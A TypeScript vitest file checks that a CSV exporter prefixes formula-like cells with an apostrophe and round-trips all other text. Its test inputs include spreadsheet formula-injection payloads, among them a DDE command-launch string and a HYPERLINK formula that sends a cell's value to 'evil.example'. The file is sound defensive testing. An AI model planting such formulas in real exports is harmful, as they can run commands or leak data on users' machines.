/** Cells of an exported CSV, written and read back by a parser of its own. */
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { byteOrderMark, csvHeader, csvLines } from "../../../src/views/exports/csv.ts";
import { chance } from "../../chance.ts";

/** The rows of a CSV, by its header. */
function read(text: string): Record<string, string>[] {
  const { data, errors } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}
const written = (...values: unknown[]) =>
  csvHeader(["a", "b"]) +
  csvLines(
    ["a", "b"],
    values.map((a) => ({ a, b: "end" })),
  );
const cell = (value: unknown) => read(written(value))[0]?.a;

test("A file is a header row and one line for each row, each with CRLF.", () => {
  expect(written("one", "two")).toBe("a,b\r\none,end\r\ntwo,end\r\n");
  expect(csvLines(["a"], [])).toBe("");
});

test("The byte order mark is EF BB BF in UTF-8.", () => {
  expect([...new TextEncoder().encode(byteOrderMark)]).toEqual([0xef, 0xbb, 0xbf]);
});

describe("A cell that a spreadsheet would run begins with an apostrophe:", () => {
  test.each([
    ["=cmd|' /C calc'!A0"],
    ['=HYPERLINK("https://evil.example/?"&A1,"x")'],
    ["+cmd"],
    ["+1•••••00"],
    ["+0155550100"],
    ["+14155550100 "],
    ["+14155550100\n=1+1"],
    ["+1415555010012345678"],
    ["-1+1"],
    ["@SUM(1,1)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["\n=1+1"],
    ["＝1+1"],
    ["＋1"],
    ["－1"],
    ["＠SUM(1)"],
  ])("%j", (value) => {
    expect(cell(value)).toBe(`'${value}`);
  });
});

describe("Any other cell is read back as it was:", () => {
  test.each([
    ["+14155550100"],
    ["+18"],
    ['say "no"'],
    ["a,b;c\td"],
    ["two\r\nlines"],
    ["a\nb\rc"],
    ["'quoted'"],
    [" padded "],
    ["שלום\u202eevil"],
    ["NUL was here: \ufffd"],
    ["👩‍👩‍👧 東京 ü"],
    ["a = b"],
    ["1-2"],
  ])("%j", (value) => {
    expect(cell(value)).toBe(value);
  });
});

test("A nested value is JSON, null is empty, and a number that is negative stays a number.", () => {
  expect(cell({ type: "order", id: '=1","' })).toBe('{"type":"order","id":"=1\\",\\""}');
  expect(cell([])).toBe("[]");
  expect(cell(null)).toBe("");
  expect(cell(-5)).toBe("-5");
  expect(cell(false)).toBe("false");
});

test("Any text comes back whole, with at most an apostrophe before it, and none begins as a formula.", () => {
  const random = chance(16);
  const signs = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    '"',
    "'",
    ",",
    ";",
    "a",
    "1",
    "\u202e",
    "😀",
    "\ufeff",
    " ",
    "＝",
  ];
  const texts = Array.from({ length: 3_000 }, () =>
    Array.from({ length: 1 + Math.floor(random() * 8) }, () => signs[Math.floor(random() * signs.length)]).join(""),
  );
  const cells = read(written(...texts)).map(({ a }) => a ?? "");
  expect(cells.length).toBe(texts.length);
  for (const [nth, found] of cells.entries()) {
    expect([texts[nth], `'${texts[nth]}`]).toContain(found);
    expect(found).not.toMatch(/^(?!\+[1-9]\d{1,14}$)[=+\-@\t\r\n]/);
  }
});
